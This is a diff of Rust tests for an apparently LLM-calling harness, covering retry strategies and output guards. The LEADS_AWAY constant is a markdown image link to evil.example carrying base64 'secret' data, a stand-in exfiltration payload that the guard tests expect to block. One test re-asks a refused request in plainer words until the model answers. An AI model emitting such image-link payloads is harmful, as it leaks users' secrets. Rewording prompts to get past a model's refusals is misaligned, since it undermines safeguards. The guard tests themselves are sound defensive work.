@@ -3,7 +3,7 @@
 use pretty_assertions::assert_eq;
 
 use crate::{
-    model::{Recovery, ResponseFormat, Strategy},
+    model::{GuardAction, Guards, Recovery, ResponseFormat, Strategy},
     prompt::Validation,
 };
 
@@ -120,4 +120,141 @@ async fn sections_and_silence_are_asked_for_again() {
     assert_eq!(failed(&execution), []);
     assert_eq!(execution.attempts[1].strategy, Some(Strategy::Enhance));
     assert!(execution.attempts[1].messages[0].content.contains("no section headed analysis"));
+}
+
+fn asks_again() -> CallSpec {
+    let mut spec = call(VariantName::A, "scripted");
+    spec.expectations.recovery = Recovery { on: true, ..Recovery::default() };
+    spec
+}
+
+/// What was told of asking again: each strategy, and why.
+fn told(kinds: &[RunEventKind]) -> Vec<(Strategy, String)> {
+    let told = kinds.iter().filter_map(|kind| match kind {
+        RunEventKind::Recovering { strategy, reasons, .. } => Some((*strategy, reasons.join("; "))),
+        _ => None,
+    });
+    told.collect()
+}
+
+/// Extraction is the first step, and free.
+#[tokio::test(start_paused = true)]
+async fn json_in_a_fence_costs_no_second_answer() {
+    let text = "Here you are:\n```json\n{\"a\": 1}\n```\nAnything else?";
+    let bench = bench(vec![answer(&[say(text)]), answer(&[say("{}")])], Memory::default());
+    let (execution, kinds) = events(&bench, wants_json(true)).await;
+    assert_eq!((execution.text.as_str(), execution.attempts.len()), (text, 1));
+    assert!(told(&kinds).is_empty());
+    let check = execution.checks.iter().find(|check| check.name == "json").expect("checked");
+    assert!(check.passed);
+    assert_eq!(check.reason, "JSON taken from a fence");
+}
+
+#[tokio::test(start_paused = true)]
+async fn an_attempt_says_what_was_wrong_before_it() {
+    let scripts = vec![answer(&[say("no json")]), answer(&[say("{}")])];
+    let bench = bench(scripts, Memory::default());
+    let (execution, kinds) = events(&bench, wants_json(true)).await;
+    let reason = "there is no object and no list in it";
+    assert_eq!(told(&kinds), [(Strategy::FormatFix, reason.to_owned())]);
+    let reasons: Vec<_> = execution.attempts.iter().map(|it| it.reason.as_deref()).collect();
+    assert_eq!(reasons, [None, Some(reason)]);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_refusal_is_asked_for_again_in_plainer_words() {
+    let refusal = answer(&[say("I'm sorry, but I can't help with that.")]);
+    let bench = bench(vec![refusal, answer(&[say("Here it is.")])], Memory::default());
+    let mut spec = asks_again();
+    spec.messages = vec![
+        Message::new(Role::System, "Be exact."),
+        Message::new(Role::User, "An example"),
+        Message::new(Role::Assistant, "An answer"),
+        Message::new(Role::User, "The\n\n\ntask"),
+    ];
+    let (execution, kinds) = events(&bench, spec).await;
+    assert_eq!(execution.text, "Here it is.");
+    assert_eq!(told(&kinds), [(Strategy::Simplify, "it refuses to answer".to_owned())]);
+    let second = &execution.attempts[1];
+    assert_eq!(second.strategy, Some(Strategy::Simplify));
+    assert_eq!(second.messages.len(), 2, "without the example");
+    assert!(second.messages[1].content.starts_with("The\ntask\n\nAnswer in plain words"));
+    assert_eq!(execution.messages.len(), 4);
+}
+
+#[tokio::test(start_paused = true)]
+async fn an_unsure_answer_is_asked_for_again() {
+    let unsure = answer(&[say("I think it is so. It might be not. Perhaps.")]);
+    let sure = answer(&[say("It is so. It has been since 1990.")]);
+    let bench = bench(vec![unsure, sure], Memory::default());
+    let (execution, kinds) = events(&bench, asks_again()).await;
+    assert_eq!(execution.text, "It is so. It has been since 1990.");
+    assert_eq!(failed(&execution), []);
+    let told = told(&kinds);
+    assert_eq!(told[0].0, Strategy::Enhance);
+    assert!(told[0].1.contains("100 of 100 sentences"), "{told:?}");
+    assert!(execution.attempts[1].messages[0].content.contains("not sure"));
+}
+
+const LEADS_AWAY: &str = "![x](https://evil.example/p.png?d=c2VjcmV0IHN0dWZm)";
+
+fn guarding(output: GuardAction) -> CallSpec {
+    let guards = Guards { output, ..Guards::default() };
+    let safeguards =
+        Safeguards { guards, untrusted: Vec::new(), allowed: std::collections::BTreeSet::new() };
+    CallSpec { safeguards, ..asks_again() }
+}
+
+#[tokio::test(start_paused = true)]
+async fn an_answer_that_a_guard_stops_is_asked_for_again_and_kept_as_an_attempt() {
+    let scripts = vec![answer(&[say(LEADS_AWAY)]), answer(&[say("A harmless answer.")])];
+    let bench = bench(scripts, Memory::default());
+    let (execution, kinds) = events(&bench, guarding(GuardAction::Block)).await;
+    assert_eq!((execution.status, execution.error_kind()), (Status::Ok, None));
+    assert_eq!(execution.text, "A harmless answer.");
+    assert_eq!(execution.attempts[0].text.as_deref(), Some(LEADS_AWAY), "it is not lost");
+    assert_eq!(told(&kinds)[0].0, Strategy::Enhance);
+    assert_eq!(failed(&execution), []);
+}
+
+#[tokio::test(start_paused = true)]
+async fn an_answer_that_stays_stopped_ends_blocked_within_bounds() {
+    let scripts = (0..9).map(|_| answer(&[say(LEADS_AWAY)])).collect();
+    let bench = bench(scripts, Memory::default());
+    let (execution, _) = events(&bench, guarding(GuardAction::Block)).await;
+    assert_eq!(
+        (execution.status, execution.error_kind()),
+        (Status::Blocked, Some(ErrorKind::Guard))
+    );
+    assert_eq!((execution.text.as_str(), execution.attempts.len()), (LEADS_AWAY, 3));
+    assert!(execution.cost_usd > Some(3.0), "each was paid for: {:?}", execution.cost_usd);
+}
+
+/// An answer that nothing stops is kept rather than one with fewer faults that is stopped.
+#[tokio::test(start_paused = true)]
+async fn a_stopped_answer_never_takes_the_place_of_another() {
+    let unsure = "I think it is so. It might be not. Perhaps.";
+    let scripts =
+        vec![answer(&[say(unsure)]), answer(&[say(LEADS_AWAY)]), answer(&[say(LEADS_AWAY)])];
+    let bench = bench(scripts, Memory::default());
+    let (execution, _) = events(&bench, guarding(GuardAction::Block)).await;
+    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, unsure));
+}
+
+#[tokio::test(start_paused = true)]
+async fn without_recovery_a_stopped_answer_is_stopped_at_once() {
+    let bench = bench(vec![answer(&[say(LEADS_AWAY)])], Memory::default());
+    let mut spec = guarding(GuardAction::Block);
+    spec.expectations.recovery.on = false;
+    let (execution, kinds) = events(&bench, spec).await;
+    assert_eq!(execution.status, Status::Blocked);
+    assert!(told(&kinds).is_empty() && execution.attempts.len() == 1);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_guard_that_only_warns_has_the_answer_asked_for_again_too() {
+    let scripts = vec![answer(&[say(LEADS_AWAY)]), answer(&[say("A harmless answer.")])];
+    let bench = bench(scripts, Memory::default());
+    let (execution, _) = events(&bench, guarding(GuardAction::Warn)).await;
+    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, "A harmless answer."));
 }
